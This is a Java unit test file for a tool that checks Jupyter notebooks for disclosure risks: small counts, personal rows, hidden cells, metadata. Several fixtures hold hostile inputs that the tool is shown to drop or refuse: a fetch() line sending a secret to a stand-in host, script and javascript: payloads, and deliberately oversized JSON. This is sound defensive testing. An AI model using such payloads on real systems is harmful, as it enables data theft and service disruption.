package org.sekisho.checker;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.Base64;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.sekisho.checker.picture.PictureSamples;

class NotebookJudgingTest extends SubmittedFiles {
    private static final JsonMapper JSON = new JsonMapper();
    private static final String TABLE_HTML =
            "<table><tr><th></th><th>area</th><th>n</th></tr><tr><th>0</th><td>A</td><td>120</td></tr><tr><th>1</th><td>B</td>"
                    + "<td>4</td></tr><tr><th>2</th><td>C</td><td>4000</td></tr><tr><th>3</th><td>D</td><td>35</td></tr></table>";

    private ObjectNode notebook;

    @BeforeEach
    void emptyNotebook() {
        notebook = JSON.createObjectNode().put("nbformat", 4).put("nbformat_minor", 4);
        notebook.putObject("metadata")
                .putObject("kernelspec")
                .put("language", "python")
                .put("name", "secret-name");
        notebook.putArray("cells");
    }

    @Test
    void writesAnewWhatItUnderstood() {
        code("print(1)  \n").put("execution_count", 4711);
        stream("done\n");
        var judgement = judge();
        assertThat(judgement.verdict()).isEqualTo(Verdict.REFER);
        assertThat(judgement.files()).extracting(CheckedFile::type).containsExactly("application/x-ipynb+json");
        var left = left();
        assertThat(left.at("/cells/0/source").asText()).isEqualTo("print(1)\n");
        assertThat(left.at("/cells/0/execution_count").isNull()).isTrue();
        assertThat(left.at("/cells/0/id").asText()).isEqualTo("cell-1");
        assertThat(left.at("/cells/0/outputs/0/text").asText()).isEqualTo("done\n");
        assertThat(left.at("/metadata").toString()).isEqualTo("{\"language_info\":{\"name\":\"python\"}}");
        assertThat(left.toString()).doesNotContain("4711").doesNotContain("secret-name");
    }

    @Test
    void judgesATableInHtmlAndHidesItsSmallCells() {
        code("df");
        var data = display("execute_result");
        data.put("text/html", TABLE_HTML);
        data.put("text/plain", "  area     n\n0    A   120\n1    B     4\n");
        var judgement = judge();
        assertThat(judgement.verdict()).isEqualTo(Verdict.REFER);
        assertThat(judgement.findings()).extracting(Finding::rule).contains("minimum-persons", "secondary-suppression");
        assertThat(judgement.findings())
                .filteredOn(finding -> finding.rule().equals("minimum-persons"))
                .singleElement()
                .satisfies(finding -> assertThat(finding.message().en()).startsWith("cell 1, output 1: "));
        assertThat(judgement.evidence().audit().hidden()).isEqualTo(2);
        assertThat(judgement.evidence().structure().columns()).hasSize(2);
        assertThat(judgement.findings()).extracting(Finding::rule).contains("row-numbers");
        assertThat(left().at("/cells/0/outputs/0/data/text~1html").asText())
                .contains("<tr><th>area</th><th>n</th></tr>", "<tr><td>B</td><td>4</td></tr>");
        var amended = amended().at("/cells/0/outputs/0/data");
        assertThat(amended.path("text/html").asText())
                .contains("<td>B</td><td>-</td>")
                .contains("<td>D</td><td>-</td>")
                .contains("<td>4000</td>");
        assertThat(amended.has("text/plain")).isFalse();
    }

    @Test
    void judgesNumbersThatAreNoRowNumbersForWantOfOrder() {
        code("df");
        display("execute_result")
                .put(
                        "text/html",
                        "<table><tr><th></th><th>area</th><th>n</th></tr><tr><th>3</th><td>A</td><td>120</td></tr>"
                                + "<tr><th>1</th><td>B</td><td>400</td></tr><tr><th>2</th><td>C</td><td>300</td></tr></table>");
        assertThat(judge().findings())
                .extracting(Finding::rule)
                .contains("minimum-persons")
                .doesNotContain("row-numbers");
        assertThat(amended().at("/cells/0/outputs/0/data/text~1html").asText())
                .contains("<td>-</td><td>A</td>", "<td>-</td><td>B</td>", "<td>-</td><td>C</td>");
    }

    @Test
    void judgesATableThatWasPrinted() {
        code("print(df)");
        stream("Counts by area\n  area     n\n0    A   120\n1    B     4\n2    C  4000\n3    D    35\n");
        var judgement = judge();
        assertThat(judgement.findings()).extracting(Finding::rule).contains("minimum-persons");
        assertThat(amended().at("/cells/0/outputs/0/text").asText())
                .isEqualTo("Counts by area\n  area     n\n0    A   120\n1    B     -\n2    C  4000\n3    D     -\n");
    }

    @Test
    void saysThatTablesOfOneNotebookMayTellOnOneAnother() {
        code("print(df)");
        stream("  area     n\n0    A   120\n1    B     4\n2    C  4000\n3    D    35\n");
        assertThat(judge().findings()).extracting(Finding::rule).doesNotContain("several-tables");
        code("print(total)");
        stream("  area     n\n0   AB   124\n1   CD  4035\n");
        assertThat(judge().findings()).extracting(Finding::rule).contains("several-tables");
    }

    @Test
    void judgesATableInMarkdown() {
        markdown("| area | n |\n|---|---|\n| A | 120 |\n| B | 4 |\n| C | 300 |\n");
        assertThat(judge().findings()).extracting(Finding::rule).contains("minimum-persons");
        assertThat(amended().at("/cells/0/source").asText()).contains("| B | - |");
    }

    @Test
    void refusesANotebookThatShowsRowsOfPersons() {
        code("df.head()");
        display("execute_result")
                .put(
                        "text/html",
                        "<table><tr><th>person_id</th><th>age</th></tr><tr><td>81</td><td>34</td></tr><tr><td>82</td><td>71</td></tr></table>");
        var judgement = judge();
        assertThat(judgement.verdict()).isEqualTo(Verdict.REFUSE);
        assertThat(judgement.findings())
                .filteredOn(finding -> finding.rule().equals("row-level"))
                .singleElement()
                .satisfies(finding -> assertThat(finding.message().en()).startsWith("cell 1, output 1: "));
        assertThat(leaving).isEmptyDirectory();
    }

    @Test
    void keepsOfAnErrorItsClassAlone() {
        code("df['x']");
        var error = output("error").put("ename", "KeyError").put("evalue", "patient 4711");
        error.putArray("traceback").add("\u001b[0;31mKeyError\u001b[0m: patient 4711 of town X");
        assertThat(judge().findings()).extracting(Finding::rule).contains("error-output");
        assertThat(left().at("/cells/0/outputs/0/ename").asText()).isEqualTo("KeyError");
        assertThat(left().toString()).doesNotContain("4711");
    }

    @Test
    void doesNotRepeatAClassThatIsAMessage() {
        code("x");
        output("error").put("ename", "patient 4711");
        judge();
        assertThat(left().at("/cells/0/outputs/0/ename").asText()).isEqualTo("Error");
    }

    @Test
    void encodesPicturesAnewAndAsksForTheDataBehind() {
        code("plot()");
        var png = PictureSamples.png();
        display("display_data").put("image/png", Base64.getEncoder().encodeToString(png) + "\n");
        assertThat(judge().findings()).extracting(Finding::rule).contains("figure-for-review");
        var image = Base64.getDecoder()
                .decode(left().at("/cells/0/outputs/0/data/image~1png").asText());
        assertThat(image).startsWith(0x89, 'P', 'N', 'G').isNotEqualTo(png);
    }

    @Test
    void leavesOutAPictureThatIsNone() {
        code("plot()");
        var data = display("display_data").put("image/png", "not base64 at all !!");
        data.put("text/plain", "<Figure size 640x480 with 1 Axes>");
        assertThat(judge().findings()).extracting(Finding::rule).contains("picture");
        assertThat(left().at("/cells/0/outputs/0/data").has("image/png")).isFalse();
    }

    @Test
    void dropsWhatItDoesNotUnderstandAndSaysSo() {
        code("widget()");
        var data = display("display_data");
        data.put("application/javascript", "fetch('http://x/?' + secret)");
        data.put("image/svg+xml", "<svg><script>1</script></svg>");
        data.put("application/x-patient-4711", "x");
        data.put("text/html", "<script>alert(4711)</script><b>4711</b>");
        data.put("text/plain", "<Widget>");
        var judgement = judge();
        assertThat(judgement.findings())
                .filteredOn(finding -> finding.rule().equals("dropped-output"))
                .hasSize(4);
        assertThat(JudgementJson.write(judgement)).doesNotContain("4711");
        assertThat(left().toString())
                .doesNotContain("4711")
                .doesNotContain("fetch")
                .doesNotContain("script");
    }

    @Tag("abuse-94")
    @Test
    void dropsMetadataAndAttachmentsAndShowsHiddenCells() {
        var cell = code("secret = 1");
        ((ObjectNode) cell.get("metadata")).putObject("jupyter").put("source_hidden", true);
        ((ObjectNode) cell.get("metadata")).putArray("tags").add("patient-4711");
        var text = markdown("![x](attachment:x.png)");
        text.putObject("attachments").putObject("x.png").put("image/png", "aGVsbG8=");
        ((ObjectNode) notebook.get("metadata")).putObject("widgets").put("state", "4711");
        assertThat(judge().findings())
                .extracting(Finding::rule)
                .contains("hidden-cell", "attachments", "notebook-metadata", "active-content");
        assertThat(left().toString())
                .doesNotContain("4711")
                .doesNotContain("aGVsbG8")
                .doesNotContain("![")
                .contains("secret = 1");
    }

    @Test
    void makesMarkdownInert() {
        markdown("<img src=http://x/a.png> ![a](http://x/b.png) [c](javascript:alert(1)) a < b <https://example.org/>");
        judge();
        assertThat(left().at("/cells/0/source").asText())
                .isEqualTo(
                        "&lt;img src=http://x/a.png> [a](http://x/b.png) [c](javascript :alert(1)) a < b <https://example.org/>\n");
    }

    @Test
    void scansSourcesAndPrintedTextForWhatCarriesMore() {
        code("key = 'aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRhIGFuZCBtb3JlIGRhdGEgc3RpbGw='");
        code("print(x)");
        stream("mail taro@example.jp\n");
        assertThat(judge().findings())
                .extracting(Finding::rule, finding -> finding.message().en().split(":")[0])
                .contains(
                        org.assertj.core.groups.Tuple.tuple("encoded-run", "cell 1, line 1"),
                        org.assertj.core.groups.Tuple.tuple("e-mail-address", "cell 2, output 1, line 1"));
    }

    @Test
    void refusesACanaryInAnySourceOrOutput() {
        code("x");
        stream("CANARY-7f3a91\n");
        assertThat(judge().verdict()).isEqualTo(Verdict.REFUSE);
    }

    @Test
    void refusesNotebooksThatNobodyReads() throws IOException {
        code("x");
        stream("x\n".repeat(600_000));
        assertThat(judge().findings()).extracting(Finding::rule).contains("too-large");
        for (var hostile : List.of(
                "[".repeat(100_000),
                "{\"cells\":[" + "[],".repeat(700_000) + "[]],\"nbformat\":4}",
                "{\"cells\":[" + "{\"cell_type\":\"code\"},".repeat(1_001) + "{}],\"nbformat\":4,\"metadata\":{}}")) {
            Files.writeString(submitted.resolve("n.ipynb"), hostile);
            assertThat(judgeFile().findings()).extracting(Finding::rule).containsExactly("too-large");
        }
        try (var large = Files.newByteChannel(
                submitted.resolve("n.ipynb"),
                java.nio.file.StandardOpenOption.WRITE,
                java.nio.file.StandardOpenOption.TRUNCATE_EXISTING)) {
            large.write(
                    java.nio.ByteBuffer.wrap(("{\"cells\":\"" + " ".repeat(5_000)).getBytes(StandardCharsets.UTF_8)));
            large.position(200L << 20);
            large.write(java.nio.ByteBuffer.wrap("\"}".getBytes(StandardCharsets.UTF_8)));
        }
        assertThat(judgeFile().findings()).extracting(Finding::rule).containsExactly("too-large");
    }

    @Test
    void refusesOutputsThatTogetherAskForMoreCellsThanADocumentMayHave() {
        var table = "<table><tr><td colspan=1000 rowspan=1000>x</td></tr></table>";
        for (int output = 0; output < 3; output++) {
            code("df");
            display("execute_result").put("text/html", table);
        }
        assertThat(judge().verdict()).isEqualTo(Verdict.REFUSE);
        assertThat(judge().findings()).extracting(Finding::rule).contains("too-large");
    }

    @Test
    void saysWhatIsNoNotebook() throws IOException {
        for (var broken : List.of(
                "{",
                "{}",
                "[]",
                "x",
                "{\"nbformat\":3,\"cells\":[]}",
                "{\"cells\":[],\"cells\":[],\"nbformat\":4}",
                "{\"nbformat\":4,\"cells\":[]} trailing")) {
            Files.writeString(submitted.resolve("n.ipynb"), broken);
            var judgement = judgeFile();
            assertThat(judgement.verdict()).as(broken).isEqualTo(Verdict.REFUSE);
            assertThat(judgement.findings()).extracting(Finding::rule).containsExactly("unreadable");
        }
    }

    @Test
    void answersWhateverTheNotebookIs() throws IOException {
        code("df");
        display("execute_result").put("text/html", TABLE_HTML);
        stream("  area     n\n0    A   120\n1    B     4\n");
        display("display_data").put("image/png", Base64.getEncoder().encodeToString(PictureSamples.png()));
        markdown("| a | n |\n|---|---|\n| x | 12 |\n| y | 3 |\n");
        var valid = JSON.writeValueAsBytes(notebook);
        var random = new SplittableRandom(11);
        for (int round = 0; round < 400; round++) {
            var bytes = valid.clone();
            for (int change = random.nextInt(1, 6); change > 0; change--) {
                bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(32, 127);
            }
            Files.write(submitted.resolve("n.ipynb"), bytes);
            assertThat(judgeFile().verdict()).isIn(Verdict.REFER, Verdict.REFUSE);
        }
    }

    private Judgement judge() {
        try {
            JSON.writeValue(submitted.resolve("n.ipynb").toFile(), notebook);
        } catch (IOException broken) {
            throw new java.io.UncheckedIOException(broken);
        }
        return judgeFile();
    }

    private Judgement judgeFile() {
        return judge("n.ipynb");
    }

    private JsonNode left() {
        return json("n.ipynb");
    }

    private JsonNode amended() {
        return json("amended-n.ipynb");
    }

    private JsonNode json(String name) {
        try {
            return JSON.readTree(leaving.resolve(name).toFile());
        } catch (IOException broken) {
            throw new java.io.UncheckedIOException(broken);
        }
    }

    private ObjectNode code(String source) {
        var cell =
                notebook.withArray("cells").addObject().put("cell_type", "code").put("source", source);
        cell.putObject("metadata");
        cell.putArray("outputs");
        return cell;
    }

    private ObjectNode markdown(String source) {
        var cell = notebook.withArray("cells")
                .addObject()
                .put("cell_type", "markdown")
                .put("source", source);
        cell.putObject("metadata");
        return cell;
    }

    private ObjectNode output(String type) {
        var cells = notebook.withArray("cells");
        return ((ObjectNode) cells.get(cells.size() - 1))
                .withArray("outputs")
                .addObject()
                .put("output_type", type);
    }

    private void stream(String text) {
        output("stream").put("name", "stdout").put("text", text);
    }

    private ObjectNode display(String type) {
        return output(type).putObject("data");
    }
}
